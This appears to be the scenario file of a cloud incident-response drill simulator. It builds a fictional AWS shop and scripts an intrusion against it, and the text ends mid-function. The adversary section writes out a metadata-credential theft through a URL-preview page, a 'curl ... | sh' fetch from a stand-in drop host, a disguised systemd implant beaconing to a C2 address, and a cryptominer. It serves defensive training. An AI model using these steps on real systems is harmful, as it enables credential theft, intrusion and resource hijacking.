"""A page that fetches any URL, metadata without tokens: role credentials abroad, a miner at home."""

from __future__ import annotations

import base64
import ipaddress
import json
from contextlib import suppress
from datetime import UTC, datetime, timedelta
from pathlib import Path
from string import Template
from urllib.parse import quote

from botocore.exceptions import BotoCoreError, ClientError, EndpointConnectionError

from simulator.account.principal_policies import iam_state
from simulator.account.state import state_of, states_of
from simulator.hosts import role
from simulator.hosts.disks import disk_of
from simulator.hosts.host import Fetch, Host, Process, Ssh, Web
from simulator.hosts.machine import find, machines
from simulator.network import balancers
from simulator.network.message import Reply
from simulator.network.survey_balancers import forwarded_to
from simulator.scenario import Actor, Phase, Routine, Scenario, check, way

HERE = Path(__file__).parent
SSH, APP, CONSOLE, POOL = 22, 8080, 9090, 3333
FLEET = 3
IMDS = "http://169.254.169.254/latest/meta-data"
ROLE = "shop-fleet"
KEYS = "/home/ec2-user/.ssh/authorized_keys"
ELSEWHERE = "203.0.113.199"
"""An address of nobody's in the drill."""
CACHE = "/srv/shop/cache/customers.csv"


def policy(name, **values):
    """A document of policies/ with its $names filled in."""
    return Template((HERE / "policies" / f"{name}.json").read_text()).substitute(values)


# --- the cast -----------------------------------------------------------------------------------


def partner_keys(settings):
    """The access key that the partner was given."""
    feed = settings["partner"]
    return {"AccessKeyId": feed["access_key_id"], "SecretAccessKey": feed["secret_access_key"]}


def thief_agent(chance):
    """Tools that thieves use, and that honest people use as well."""
    return chance.choice(
        [
            "aws-cli/1.22.34 Python/3.10.12 Linux/6.5.0-kali3-amd64 botocore/1.23.34",
            "aws-cli/2.15.30 Python/3.11.8 Linux/6.8.0-31-generic exe/x86_64.ubuntu.24",
            "Boto3/1.34.84 md/Botocore#1.34.84 ua/2.0 os/linux#5.15.0 md/arch#x86_64 lang/python#3.11.2",
        ]
    )


CLI = "aws-cli/2.17.62 md/awscrt#0.21.2 ua/2.0 os/macos#23.6.0 md/arch#arm64 lang/python#3.12.6"
SDK = "Boto3/1.35.10 md/Botocore#1.35.10 ua/2.0 os/linux#6.1.0 md/arch#x86_64 lang/python#3.11.9"
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
PHONE = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Safari/604.1"
NOBODY = "-"

scenario = Scenario(
    title="The host that worked for somebody else",
    pillar="Incident response",
    severity="critical",
    difficulty=4,
    minutes=120,
    attack=("T1190", "T1552.005", "T1078.004", "T1496", "T1571", "T1098", "T1530", "T1537"),
    controls=("5.6", "EC2.8", "EC2.170", "EC2.1", "IAM.3"),
    principals={
        "operator": Actor("operator_key", "head office", CLI),
        "fleet": Actor(None, "head office", SDK),
        "partner": Actor(partner_keys, "partner", SDK),
        "customer": Actor(None, "homes", BROWSER),
        "regular": Actor(None, "phones", PHONE),
        "monitor": Actor(None, "monitoring", "Uptime/2.3 (+https://uptime.example)"),
        "scanner": Actor(None, "research", "Mozilla/5.0 zgrab/0.x"),
        "vault": Actor(None, "backup service", NOBODY),
        "provider": Actor(None, "payment provider", NOBODY),
        "spoofed": Actor(None, "homes", NOBODY),
        "thief": Actor(None, "hosting", "python-requests/2.32.3", hostile=True),
        "c2": Actor(None, "bulletproof", NOBODY, hostile=True),
        "pool": Actor(None, "mining pool", NOBODY, hostile=True),
        "taker": Actor("stolen", "vps", thief_agent, hostile=True),
        "sheller": Actor("shell_keys", "vps", thief_agent, hostile=True),
        "ghost": Actor("rogue_key", "vps", thief_agent, hostile=True),
        "late": Actor("late_key", "vps", thief_agent, hostile=True),
        "taker_elsewhere": Actor("stolen", "vpn exit", thief_agent, hostile=True),
        "sheller_elsewhere": Actor("shell_keys", "vpn exit", thief_agent, hostile=True),
    },
    built=timedelta(days=4),
    injected=(timedelta(days=1.2), timedelta(days=1.9)),
    attacked=(timedelta(hours=3), timedelta(hours=4.5)),
    findings={
        "instance": "the id of the instance on which the intruder ran programs",
        "since": "when the first request asked for instance metadata through the shop (ISO 8601)",
        "source": "the address from which these requests really came",
        "credentials": "ids of every access key that was used from outside by the intruder",
        "destinations": "addresses that the intruder's programs talk to",
        "taken": "what left: S3 keys, names of parameters, or ids of snapshots",
        "people": "how many different customers' records left; 0 if none",
        "evidence": "eventIDs from CloudTrail that prove use from outside, what was made and what was taken",
    },
    accuses={"credentials": "guilty_keys", "instance": "guilty_instances"},
    fidelity=(
        "IAM, STS, IMDS, security groups with their tracked connections, network ACLs, disks and "
        "snapshots behave as on AWS; changes take effect at once. Hosts know a small set of programs. "
        "A memory image (avml) is readable text here, where a real one is gigabytes for Volatility. "
        "An instance's role credentials are renewed when somebody asks for them. GuardDuty "
        "was not switched on here; a detector finds what happens from when you make one."
    ),
)


# --- the company --------------------------------------------------------------------------------


def course(seed):
    """Which way back, and what is taken: in twelve neighbouring seeds each pair once."""
    number = (seed * 5 + 3) % 12
    return {
        "persistence": ("unit", "ssh", "template", "access key")[number % 4],
        "exfiltration": ("objects", "parameters", "snapshot")[number // 4],
        "fileless": number % 4 != 0,
    }


def baseline(admin, perform, rng, fake, world, internet, vault, account_id):
    """A shop: a load balancer, three servers from one launch template, data in S3, a partner."""
    company = fake.unique.last_name().lower()
    suffix = f"{rng.randrange(16**4):04x}"
    backup_name = f"vault.{fake.unique.last_name().lower()}.example"
    internet.name(backup_name, vault.address)
    names = {
        "company": company.capitalize(),
        "product": rng.choice(["Larder", "Lantern", "Orchard", "Parcel", "Saddle", "Teapot"]),
        "data_bucket": f"{company}-shop-data-{suffix}",
        "log_bucket": f"{company}-logs-{suffix}",
        "base": rng.randint(16, 240),
        "backup_name": backup_name,
        "provider_name": f"api.{fake.unique.last_name().lower()}pay.example",
        "feed_user": rng.choice(["partner-feed", "price-feed", "marketplace-feed"]),
        **course(world.seed),
        "guilty_instances": [],
        "keys_path": KEYS,
        "cache_path": CACHE,
    }
    perform(lambda: names)
    for bucket in (names["data_bucket"], names["log_bucket"]):
        admin.s3.create_bucket(Bucket=bucket)
    admin.s3.put_bucket_policy(
        Bucket=names["log_bucket"],
        Policy=policy("log-bucket", bucket=names["log_bucket"], account=account_id),
    )
    perform(start_trail)
    perform(build_network)
    perform(take_payments)
    perform(upload)
    perform(make_role)
    perform(make_people)
    perform(make_image)
    perform(launch_fleet)
    perform(balance)
    perform(log_the_network)
    return names


def start_trail(admin, log_bucket, data_bucket):
    """A trail of the whole account, with data events of the shop's data."""
    admin.cloudtrail.create_trail(Name="audit", S3BucketName=log_bucket, IsMultiRegionTrail=True)
    data = {"Type": "AWS::S3::Object", "Values": [f"arn:aws:s3:::{data_bucket}/"]}
    admin.cloudtrail.put_event_selectors(
        TrailName="audit",
        EventSelectors=[
            {"ReadWriteType": "All", "IncludeManagementEvents": True, "DataResources": [data]}
        ],
    )
    admin.cloudtrail.start_logging(Name="audit")


def build_network(admin, company, base):
    """A VPC with two public subnets; the servers have public addresses."""
    ec2 = admin.ec2
    vpc = ec2.create_vpc(CidrBlock=f"10.{base}.0.0/16")["Vpc"]["VpcId"]
    gateway = ec2.create_internet_gateway()["InternetGateway"]["InternetGatewayId"]
    ec2.attach_internet_gateway(InternetGatewayId=gateway, VpcId=vpc)
    table = ec2.create_route_table(VpcId=vpc)["RouteTable"]["RouteTableId"]
    ec2.create_route(RouteTableId=table, DestinationCidrBlock="0.0.0.0/0", GatewayId=gateway)
    subnets = []
    for number, zone in enumerate("ab"):
        subnet = ec2.create_subnet(
            VpcId=vpc, CidrBlock=f"10.{base}.{number}.0/24", AvailabilityZone=f"us-east-1{zone}"
        )["Subnet"]["SubnetId"]
        ec2.associate_route_table(RouteTableId=table, SubnetId=subnet)
        subnets.append(subnet)
    groups = {
        name: ec2.create_security_group(
            GroupName=f"{company.lower()}-{name}", Description=what, VpcId=vpc
        )["GroupId"]
        for name, what in (("alb", "The world"), ("fleet", "The load balancer"))
    }
    admit(admin, groups["alb"], 80, IpRanges=[{"CidrIp": "0.0.0.0/0"}])
    admit(admin, groups["fleet"], APP, UserIdGroupPairs=[{"GroupId": groups["alb"]}])
    return {
        "vpc_id": vpc,
        "vpc_cidr": f"10.{base}.0.0/16",
        "subnets": subnets,
        "alb_group": groups["alb"],
        "fleet_group": groups["fleet"],
    }


def admit(who, group, port, **sources):
    """An inbound TCP rule."""
    rule = {"IpProtocol": "tcp", "FromPort": port, "ToPort": port, **sources}
    who.ec2.authorize_security_group_ingress(GroupId=group, IpPermissions=[rule])


def take_payments(admin, fake, world, internet, provider, provider_name, exfiltration):
    """A payment provider outside, which knows the shop by a key, and where the shop keeps that."""
    key = f"sk_live_{fake.unique.hexify('^' * 24)}"
    place = PLACES[exfiltration]
    world.settings["payments"] = {"secret_key": key, "kept_at": place}

    def charges(request):
        wanted = f"Bearer {world.settings['payments']['secret_key']}"
        if request.header("Authorization") == wanted:
            return Reply('{"object": "balance", "livemode": true}')
        return Reply('{"error": "invalid_api_key"}', 401)

    internet.name(provider_name, provider.address)
    internet.serve(provider_name, {"/v1/*": charges})
    for name, value in (("flags", "new-checkout,previews"), ("theme", "autumn")):
        admin.ssm.put_parameter(Name=f"/shop/{name}", Type="String", Value=value)
    return {"payment_key": key, "known_keys": [key], "key_place": place}


PLACES = {
    "objects": "s3:config/shop.env",
    "parameters": "ssm:/shop/payments/api-key",
    "snapshot": "secretsmanager:shop/payments",
}
"""Where the shop keeps its payment key: it is where the intruder finds it."""


def put_key(who, place, key, bucket):
    """Keep a payment key at its place."""
    kind, _, name = place.partition(":")
    if kind == "s3":
        who.s3.put_object(Bucket=bucket, Key=name, Body=f"PAYMENT_KEY={key}\n".encode())
    elif kind == "ssm":
        who.ssm.put_parameter(Name=name, Type="SecureString", Value=key, Overwrite=True)
    else:
        who.secretsmanager.put_secret_value(SecretId=name, SecretString=key)


def read_key(who, place, bucket):
    """The payment key as it is kept now."""
    kind, _, name = place.partition(":")
    if kind == "s3":
        body = who.s3.get_object(Bucket=bucket, Key=name)["Body"].read().decode()
        return body.strip().rpartition("=")[2]
    if kind == "ssm":
        return who.ssm.get_parameter(Name=name, WithDecryption=True)["Parameter"]["Value"]
    return who.secretsmanager.get_secret_value(SecretId=name)["SecretString"]


def upload(admin, rng, fake, data_bucket, key_place, payment_key):
    """Customers by the month, a catalogue, a feed for the partner, and the payment key."""
    if key_place.startswith("secretsmanager:"):
        name = key_place.partition(":")[2]
        admin.secretsmanager.create_secret(Name=name, SecretString=payment_key)
    else:
        put_key(admin, key_place, payment_key, data_bucket)
    customers = [person(rng, fake, number) for number in range(rng.randint(60, 90))]
    exports = {}
    for month in sorted(rng.sample(range(1, 11), 5)):
        chosen = sorted(rng.sample(range(len(customers)), rng.randint(14, 30)))
        exports[f"exports/2026-{month:02d}/customers.csv"] = [customers[one] for one in chosen]
    for key, rows in exports.items():
        admin.s3.put_object(Bucket=data_bucket, Key=key, Body=table(rows).encode())
    catalogue = json.dumps([{"sku": f"A{n}", "price": rng.randint(3, 90)} for n in range(12)])
    for key in ("catalogue/current.json", "feed/prices.json"):
        admin.s3.put_object(Bucket=data_bucket, Key=key, Body=catalogue.encode())
    cached = [customers[one] for one in sorted(rng.sample(range(len(customers)), 40))]
    return {
        "exports": {key: [row.split(",")[0] for row in rows] for key, rows in exports.items()},
        "cached": [row.split(",")[0] for row in cached],
        "cache_text": table(cached),
    }


HEAD = "customer_id,name,email,phone,card,ssn"


def table(rows):
    """A CSV file."""
    return "\n".join([HEAD, *rows]) + "\n"


def person(rng, fake, number):
    """A customer who doesn't exist. The card's number fails its check digit, the other was never given."""
    first, last = fake.first_name(), fake.last_name()
    email = f"{first}.{last}@example.{rng.choice(['com', 'net', 'org'])}".lower()
    digits = f"4{rng.randrange(10**14):014d}"
    wrong = str((luhn(digits) + rng.randint(1, 9)) % 10)
    phone = f"+1-555-01{rng.randrange(100):02d}"
    ssn = f"9{rng.randrange(100):02d}-{rng.randint(1, 99):02d}-{rng.randrange(10**4):04d}"
    return f"C{10_000 + number},{first} {last},{email},{phone},{digits}{wrong},{ssn}"


def luhn(digits):
    """The check digit that a card's number would need (ISO/IEC 7812-1)."""
    total = 0
    for place, digit in enumerate(reversed(digits)):
        doubled = int(digit) * (2 if place % 2 == 0 else 1)
        total += doubled // 10 + doubled % 10
    return -total % 10


def make_role(admin, account_id, data_bucket):
    """The fleet's role; it can do more than the shop needs, for a deploy tool of years ago."""
    trust = policy("trust-service", service="ec2.amazonaws.com")
    role = admin.iam.create_role(RoleName=ROLE, AssumeRolePolicyDocument=trust)["Role"]
    admin.iam.put_role_policy(
        RoleName=ROLE,
        PolicyName="shop",
        PolicyDocument=policy("fleet", bucket=data_bucket, account=account_id),
    )
    admin.iam.attach_role_policy(
        RoleName=ROLE, PolicyArn="arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore"
    )
    admin.iam.create_instance_profile(InstanceProfileName=ROLE)
    admin.iam.add_role_to_instance_profile(InstanceProfileName=ROLE, RoleName=ROLE)
    return {"role_name": ROLE, "role_arn": role["Arn"], "profile_name": ROLE}


def make_people(admin, fake, account_id, settings, feed_user, data_bucket):
    """An operator, and a user whose key the partner has."""
    admin.iam.create_group(GroupName="operations")
    admin.iam.attach_group_policy(
        GroupName="operations", PolicyArn="arn:aws:iam::aws:policy/AmazonEC2FullAccess"
    )
    admin.iam.put_group_policy(
        GroupName="operations",
        PolicyName="operators",
        PolicyDocument=policy("operators", account=account_id),
    )
    user = f"{fake.unique.first_name().lower()}.{fake.unique.last_name().lower()}"
    arn = admin.iam.create_user(UserName=user, Path="/people/")["User"]["Arn"]
    admin.iam.add_user_to_group(GroupName="operations", UserName=user)
    operator_key = admin.iam.create_access_key(UserName=user)["AccessKey"]
    admin.iam.create_user(UserName=feed_user, Path="/feeds/")
    admin.iam.put_user_policy(
        UserName=feed_user, PolicyName="feed", PolicyDocument=policy("feed", bucket=data_bucket)
    )
    key = admin.iam.create_access_key(UserName=feed_user)["AccessKey"]
    settings["partner"] = {
        "access_key_id": key["AccessKeyId"],
        "secret_access_key": key["SecretAccessKey"],
    }
    return {
        "operator_user": user,
        "operator_arn": arn,
        "operator_key": operator_key,
        "feed_key_id": key["AccessKeyId"],
    }


def shop(product, *, console=False):
    """What runs on a server: the shop, with a page that previews any URL, and sometimes a console."""
    pages = {
        "/": f"Welcome to {product}",
        "/healthz": "ok",
        "/product/*": "A fine thing",
        "/admin*": Reply("Forbidden", 403),
    }
    web = Web(
        pages,
        name="gunicorn",
        version="22.0.0",
        user="app",
        command="/usr/bin/gunicorn -b 0.0.0.0:8080 shop:app",
        fetches={"/preview": Fetch("url")},
    )
    services = {SSH: Ssh(), APP: web}
    if console:
        services[CONSOLE] = Web(
            {"/run": run_in_console},
            name="debug-console",
            version="0.4",
            user="root",
            command="/srv/shop/bin/debug-console --bind 127.0.0.1:9090",
        )
    return services


def run_in_console(request):
    """The debug console runs what it is given, and says where."""
    return f"ok: running as root on {request.source_ip}\n"


def make_image(admin, hosts, rng, subnets, fleet_group, product, company, cache_text, payment_key):
    """The image that servers are launched from, and the launch template that says how."""
    builder = run(admin, subnets[0], fleet_group, ImageId="ami-12c6146b", InstanceType="t3.small")
    deploy_key = f"{public_key(rng)} deploy@{company.lower()}.example"
    files = {
        KEYS: f"{deploy_key}\n",
        CACHE: cache_text,
        "/srv/shop/.env": f"PAYMENT_KEY={payment_key}\nFLAGS=previews\n",
        "/etc/cron.d/logrotate": "0 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf\n",
    }
    hosts.equip(builder, Host(services=shop(product), files=files))
    image = admin.ec2.create_image(InstanceId=builder, Name=f"{product.lower()}-golden")["ImageId"]
    admin.ec2.terminate_instances(InstanceIds=[builder])
    script = f"#!/bin/bash\necho {product.lower()} > /etc/shop-role\n"
    template = admin.ec2.create_launch_template(
        LaunchTemplateName=f"{company.lower()}-shop",
        LaunchTemplateData={
            "ImageId": image,
            "InstanceType": "t3.small",
            "IamInstanceProfile": {"Name": ROLE},
            "MetadataOptions": {"HttpTokens": "optional", "HttpPutResponseHopLimit": 2},
            "UserData": base64.b64encode(script.encode()).decode(),
        },
    )["LaunchTemplate"]["LaunchTemplateId"]
    return {
        "golden_image": image,
        "template_id": template,
        "user_data": script,
        "files_at_birth": files,
    }


def run(who, subnet, group, called="", **how):
    """Launch an instance; its id."""
    interface = {
        "DeviceIndex": 0,
        "SubnetId": subnet,
        "Groups": [group],
        "AssociatePublicIpAddress": True,
    }
    tags = [{"Key": "Name", "Value": called}] if called else []
    named = [{"ResourceType": "instance", "Tags": tags}] if tags else []
    made = who.ec2.run_instances(
        MinCount=1, MaxCount=1, NetworkInterfaces=[interface], TagSpecifications=named, **how
    )
    return made["Instances"][0]["InstanceId"]


def from_template(who, settings, subnet, group, called="shop"):
    """Launch a server as the company's deployment does: from the template's default version."""
    template = {"LaunchTemplateId": settings["fleet"]["launch_template"], "Version": "$Default"}
    return run(who, subnet, group, called, LaunchTemplate=template)


def public_key(rng):
    """An SSH key that nobody has the other half of."""
    head = b"\x00\x00\x00\x0bssh-ed25519\x00\x00\x00 "
    return "ssh-ed25519 " + base64.b64encode(head + rng.randbytes(32)).decode()


def launch_fleet(admin, settings, subnets, fleet_group, template_id, rng):
    """Three servers in two zones."""
    settings["fleet"] = {"launch_template": template_id}
    zones = [subnets[0], subnets[0], subnets[1]]
    rng.shuffle(zones)
    servers = [
        from_template(admin, settings, subnet, fleet_group, f"shop-{number}")
        for number, subnet in enumerate(zones, 1)
    ]
    return {"servers": servers, **addresses(admin, servers)}


def addresses(who, servers):
    """Public addresses and interfaces of instances, by id."""
    told = who.ec2.describe_instances(InstanceIds=servers)["Reservations"]
    found = [one for each in told for one in each["Instances"]]
    return {
        "publics": {one["InstanceId"]: one["PublicIpAddress"] for one in found},
        "privates": {one["InstanceId"]: one["PrivateIpAddress"] for one in found},
        "volumes": {
            one["InstanceId"]: one["BlockDeviceMappings"][0]["Ebs"]["VolumeId"] for one in found
        },
    }


def balance(admin, company, vpc_id, subnets, alb_group, servers, log_bucket):
    """An Application Load Balancer in front of the servers, with its access log."""
    elb = admin.elbv2
    balancer = elb.create_load_balancer(
        Name=f"{company.lower()}-shop", Subnets=subnets, SecurityGroups=[alb_group]
    )["LoadBalancers"][0]
    group = elb.create_target_group(
        Name="shop",
        Protocol="HTTP",
        Port=APP,
        VpcId=vpc_id,
        TargetType="instance",
        HealthCheckPath="/healthz",
    )["TargetGroups"][0]["TargetGroupArn"]
    elb.register_targets(TargetGroupArn=group, Targets=[{"Id": each} for each in servers])
    listener = elb.create_listener(
        LoadBalancerArn=balancer["LoadBalancerArn"],
        Protocol="HTTP",
        Port=80,
        DefaultActions=[{"Type": "forward", "TargetGroupArn": group}],
    )["Listeners"][0]["ListenerArn"]
    told = {
        "access_logs.s3.enabled": "true",
        "access_logs.s3.bucket": log_bucket,
        "access_logs.s3.prefix": "alb",
    }
    elb.modify_load_balancer_attributes(
        LoadBalancerArn=balancer["LoadBalancerArn"],
        Attributes=[{"Key": key, "Value": value} for key, value in told.items()],
    )
    return {"shop_name": balancer["DNSName"], "target_group": group, "listener": listener}


def log_the_network(admin, vpc_id, log_bucket):
    """Flow logs of the VPC, and the names that its hosts ask for."""
    admin.ec2.create_flow_logs(
        ResourceIds=[vpc_id],
        ResourceType="VPC",
        TrafficType="ALL",
        LogDestinationType="s3",
        LogDestination=f"arn:aws:s3:::{log_bucket}/flow/",
    )
    config = admin.route53resolver.create_resolver_query_log_config(
        Name="queries", DestinationArn=f"arn:aws:s3:::{log_bucket}/dns", CreatorRequestId="queries"
    )["ResolverQueryLogConfig"]["Id"]
    admin.route53resolver.associate_resolver_query_log_config(
        ResolverQueryLogConfigId=config, ResourceId=vpc_id
    )


# --- the mistake --------------------------------------------------------------------------------


def inject(operator, rng, hosts, servers, product, files_at_birth):
    """A debug console is started on one server for an afternoon, and forgotten."""
    victim = rng.choice(servers)
    session = operator.ssm.start_session(Target=victim)["SessionId"]
    operator.ssm.send_command(
        InstanceIds=[victim],
        DocumentName="AWS-RunShellScript",
        Comment=rng.choice(["debug checkout", "why is cart slow", "look into 502s"]),
        Parameters={"commands": ["systemctl start debug-console", "hostname"]},
    )
    operator.ssm.terminate_session(SessionId=session)
    unit = "/etc/systemd/system/debug-console.service"
    files = {
        **files_at_birth,
        "/etc/shop-role": f"{product.lower()}\n",
        unit: "[Service]\nExecStart=/srv/shop/bin/debug-console --bind 127.0.0.1:9090\n",
    }
    hosts.equip(victim, Host(services=shop(product, console=True), files=files))
    return {"victim": victim, "guilty_instances": [victim]}


# --- the company's days -------------------------------------------------------------------------


def targets(world, shop_name):
    """The servers that the load balancer sends requests to."""
    balancer = balancers.find(world, shop_name)
    listener = balancer.listener(80) if balancer is not None else None
    if listener is None:
        return []
    return [
        one.name
        for action in listener.default_actions
        for group in forwarded_to(action)
        for one in balancers.healthy(balancer, group)
        if find(world, one.name) is not None
    ]


def turns(world, shop_name):
    """After so many requests each server has had one; 0 where rules, weights or dice decide."""
    balancer = balancers.find(world, shop_name)
    listener = balancer.listener(80) if balancer is not None else None
    if listener is None or any(not rule.is_default for rule in listener.rules.values()):
        return 0
    groups = [group for action in listener.default_actions for group in forwarded_to(action)]
    if len(groups) != 1 or not balancers.takes_turns(balancer, groups[0]):
        return 0
    return len(balancers.healthy(balancer, groups[0]))


def in_service(world, shop_name):
    """As `targets`; there must be some.

    Raises:
        EndpointConnectionError: there are none.
    """
    found = targets(world, shop_name)
    if not found:
        raise EndpointConnectionError(endpoint_url=f"http://{shop_name}/")
    return found


def workload(customer, regular, shop_name):
    """Customers look at the shop."""
    for visitor in (customer, regular):
        for path in ("/", "/product/7", "/"):
            reply = visitor.get(f"http://{shop_name}{path}")
            assert reply.ok, f"the shop answers {reply.status}"


def trade(fleet, world, shop_name, data_bucket, key_place, provider_name):
    """Every server reads the catalogue and the payment key with its role, and asks the provider."""
    for instance in in_service(world, shop_name):
        server = fleet.on(instance, user="app")
        server.s3.get_object(Bucket=data_bucket, Key="catalogue/current.json")
        key = read_key(server, key_place, data_bucket)
        asked = server.run(
            f"curl -sf -H 'Authorization: Bearer {key}' http://{provider_name}/v1/balance"
        )
        assert asked.code == 0, f"the payment provider refuses the key that {instance} uses"


def operate(operator, world, shop_name):
    """An operator gets on the servers by Session Manager, without any port."""
    found = in_service(world, shop_name)
    session = operator.ssm.start_session(Target=found[0])["SessionId"]
    operator.ssm.send_command(
        InstanceIds=found,
        DocumentName="AWS-RunShellScript",
        Parameters={"commands": ["systemctl list-units"]},
    )
    operator.ssm.terminate_session(SessionId=session)


def back_up(fleet, rng, world, shop_name, backup_name):
    """Every server sends its nightly backup to the backup service: large, outward, and right."""
    for instance in in_service(world, shop_name):
        size = rng.randint(30, 90) * 10**6
        fleet.connect(backup_name, 443, source=instance, bytes=size, seconds=rng.uniform(60, 300))


def feed(partner, data_bucket):
    """The partner fetches its feed with the key that it was given."""
    partner.s3.get_object(Bucket=data_bucket, Key="feed/prices.json")


def share(customer, regular, shop_name, rng):
    """Customers use the preview for what it is for."""
    who = rng.choice([customer, regular])
    page = rng.choice(["news.example/autumn", "blog.example/tea", "maps.example/shop"])
    who.get(f"http://{shop_name}/preview?url=https://{page}")


def watch(monitor, shop_name):
    """The uptime monitor asks, and asks."""
    for _ in range(3):
        monitor.get(f"http://{shop_name}/healthz")


def scan(scanner, shop_name, rng):
    """A research project looks for what people leave lying about."""
    for path in ("/.env", "/.git/config", "/admin/", "/wp-login.php"):
        yield lambda path=path: scanner.get(f"http://{shop_name}{path}")


def look_after(operator):
    """An operator looks at the fleet now and then."""
    operator.ec2.describe_instances()
    operator.ec2.describe_launch_templates()


routines = (
    Routine(
        workload,
        every=timedelta(hours=7),
        since=timedelta(days=3.6),
        name="the shop",
        pulse=timedelta(minutes=30),
    ),
    Routine(
        trade,
        every=timedelta(hours=27),
        since=timedelta(days=3.6),
        name="the servers' data and payments",
        pulse=timedelta(minutes=40),
    ),
    Routine(
        operate,
        every=timedelta(hours=22),
        since=timedelta(days=3.5),
        jitter=0.3,
        name="the operators' way in",
        pulse=timedelta(minutes=90),
    ),
    Routine(
        back_up,
        every=timedelta(hours=24),
        since=timedelta(days=3.2),
        jitter=0.05,
        name="the backup",
        pulse=timedelta(hours=3),
    ),
    Routine(
        feed,
        every=timedelta(hours=16),
        since=timedelta(days=3.5),
        name="the partner's feed",
        pulse=timedelta(minutes=60),
    ),
    Routine(share, every=timedelta(hours=15), since=timedelta(days=3.4), jitter=0.4),
    Routine(watch, every=timedelta(hours=11), since=timedelta(days=3.5)),
    Routine(scan, every=timedelta(hours=31), since=timedelta(days=3.3)),
    Routine(look_after, every=timedelta(hours=17), since=timedelta(days=3.4), jitter=0.3),
)


# --- the adversary ------------------------------------------------------------------------------


def preview(shop_name, url):
    """The shop's page that fetches what it is told."""
    return f"http://{shop_name}/preview?url={quote(url, safe=':/')}"


CONSOLE_URL = f"http://127.0.0.1:{CONSOLE}/run?cmd=curl -fsSL cdn/i.sh|sh"


def detonate(thief, taker, sheller, operator, rng, perform, victim):
    """A night: a hole is found, credentials and a shell are got, and each is made use of."""
    perform(name_servers)
    perform(find_the_hole)
    thief.pause(minutes=rng.uniform(2, 8))
    perform(take_credentials)
    thief.pause(minutes=rng.uniform(2, 6))
    perform(look_around)
    operator.ssm.start_session(Target=victim)
    thief.pause(minutes=rng.uniform(3, 10))
    perform(get_a_shell)
    perform(take_the_shells_credentials)
    perform(renew_by_itself)
    with suppress(ClientError, BotoCoreError, AssertionError):
        perform(trade)
    taker.pause(minutes=rng.uniform(3, 10))
    steps = [persist, exfiltrate]
    rng.shuffle(steps)
    for step in steps:
        perform(take_the_shells_credentials)
        perform(step)
        sheller.pause(minutes=rng.uniform(5, 15))
    for _ in range(3):
        perform(beacon)
        thief.pause(minutes=rng.uniform(4, 10))
    perform(take_the_shells_credentials)


def renew_by_itself(world, servers, victim):
    """EC2 renews the servers' credentials in good time: tonight it is the others' turn."""
    for each in servers:
        if each != victim:
            role.forget(find(world, each))


def name_servers(rng, fake, internet, c2, pool):
    """Names for what the intruder has outside, and what is to be fetched there."""
    called = rng.choice(["kauditd-sync", "dbus-relay", "sysstat-agent", "cronie-sync"])
    pool_name = (
        f"{rng.choice(['xmr', 'pool', 'rx'])}.{fake.unique.last_name().lower()}-mine.example"
    )
    drop_name = f"cdn.{fake.unique.last_name().lower()}-static.example"
    internet.name(pool_name, pool.address)
    internet.name(drop_name, c2.address)
    unit = f"/etc/systemd/system/{called}.service"
    command = f"/usr/local/sbin/{called} --relay {c2.address}:443"
    script = "".join(
        f"{line}\n"
        for line in (
            f"echo '[Service]' > {unit}",
            f"echo 'ExecStart={command}' >> {unit}",
            f"echo ELF > /usr/local/sbin/{called}",
            f"systemctl enable --now {called}",
        )
    )
    internet.serve(drop_name, {"/i.sh": script})
    return {
        "implant": called,
        "implant_unit": unit,
        "implant_command": command,
        "pool_name": pool_name,
        "drop_name": drop_name,
        "c2_address": c2.address,
        "pool_address": pool.address,
        "memory_mark": f"RELAY_KEY={fake.unique.hexify('^' * 32)}",
        "staging": f"/var/tmp/.{called[:4]}/config.json",
    }


def find_the_hole(thief, now, shop_name, spoofed):
    """A page that fetches URLs fetches the instance's metadata. The forged header fools nobody here."""
    forged = {"X-Forwarded-For": spoofed.address}
    thief.get(f"http://{shop_name}/", headers=forged)
    thief.get(preview(shop_name, "https://icanhaz.example/"), headers=forged)
    found = now()
    thief.get(preview(shop_name, f"{IMDS}/"), headers=forged)
    return {"first_request": found.isoformat(), "thief_address": thief.address}


def take_credentials(thief, shop_name, spoofed, role_name):
    """By version 1 of the metadata service, of whichever server the load balancer chose."""
    forged = {"X-Forwarded-For": spoofed.address}
    role = f"{IMDS}/iam/security-credentials/"
    thief.get(preview(shop_name, role), headers=forged)
    reply = thief.get(preview(shop_name, f"{role}{role_name}"), headers=forged)
    keys = as_keys(reply.body)
    return {
        "stolen": keys,
        "guilty_keys": [keys["AccessKeyId"]],
        "stolen_key_id": keys["AccessKeyId"],
    }


def as_keys(body):
    """Credentials as the metadata service tells them."""
    told = json.loads(body)
    return {
        "AccessKeyId": told["AccessKeyId"],
        "SecretAccessKey": told["SecretAccessKey"],
        "SessionToken": told["Token"],
    }


def look_around(taker, victim):
    """From outside: who am I, and what is here?"""
    arn = taker.sts.get_caller_identity()["Arn"]
    taker.ec2.describe_instances()
    with suppress(ClientError):
        taker.s3.list_buckets()
    lender = arn.rpartition("/")[2]
    return {"lender": lender, "other_lender": lender if lender != victim else None}


def get_a_shell(thief, rng, shop_name, spoofed, victim, c2, pool, pool_name, drop_name,
                implant, implant_command, memory_mark, staging):  # fmt: skip
    """The debug console answers on one server only; there a relay and a miner are started."""
    forged = {"X-Forwarded-For": spoofed.address}
    place = CONSOLE_URL.replace("cdn", drop_name)
    for _ in range(40):
        if thief.get(preview(shop_name, place), headers=forged).ok:
            break
        thief.pause(seconds=rng.uniform(1, 9))
    host = thief.on(victim)
    wallet = f"4{rng.getrandbits(180):045x}"
    host.write(staging, json.dumps({"url": f"{pool_name}:{POOL}", "user": wallet}) + "\n")
    host.write("/var/log/shop/access.log", web_log(thief, spoofed, shop_name))
    host.start(Process(implant, implant_command, peer=f"{c2.address}:443", environ=memory_mark))
    host.start(
        Process("kworker-u8", f"/var/tmp/.x/kworker-u8 -o {pool_name}:{POOL}", user="app", cpu=96.4,
                peer=f"{pool.address}:{POOL}", environ=f"WALLET={wallet}")
    )  # fmt: skip
    relay = thief.connect(
        c2.address, 443, source=victim, bytes=9_000, received=70_000, seconds=20, keep=True
    )
    mining = thief.connect(
        pool_name, POOL, source=victim, bytes=6_000, received=4_000, seconds=30, keep=True
    )
    return {"relay": relay, "mining": mining}


def web_log(thief, spoofed, shop_name):
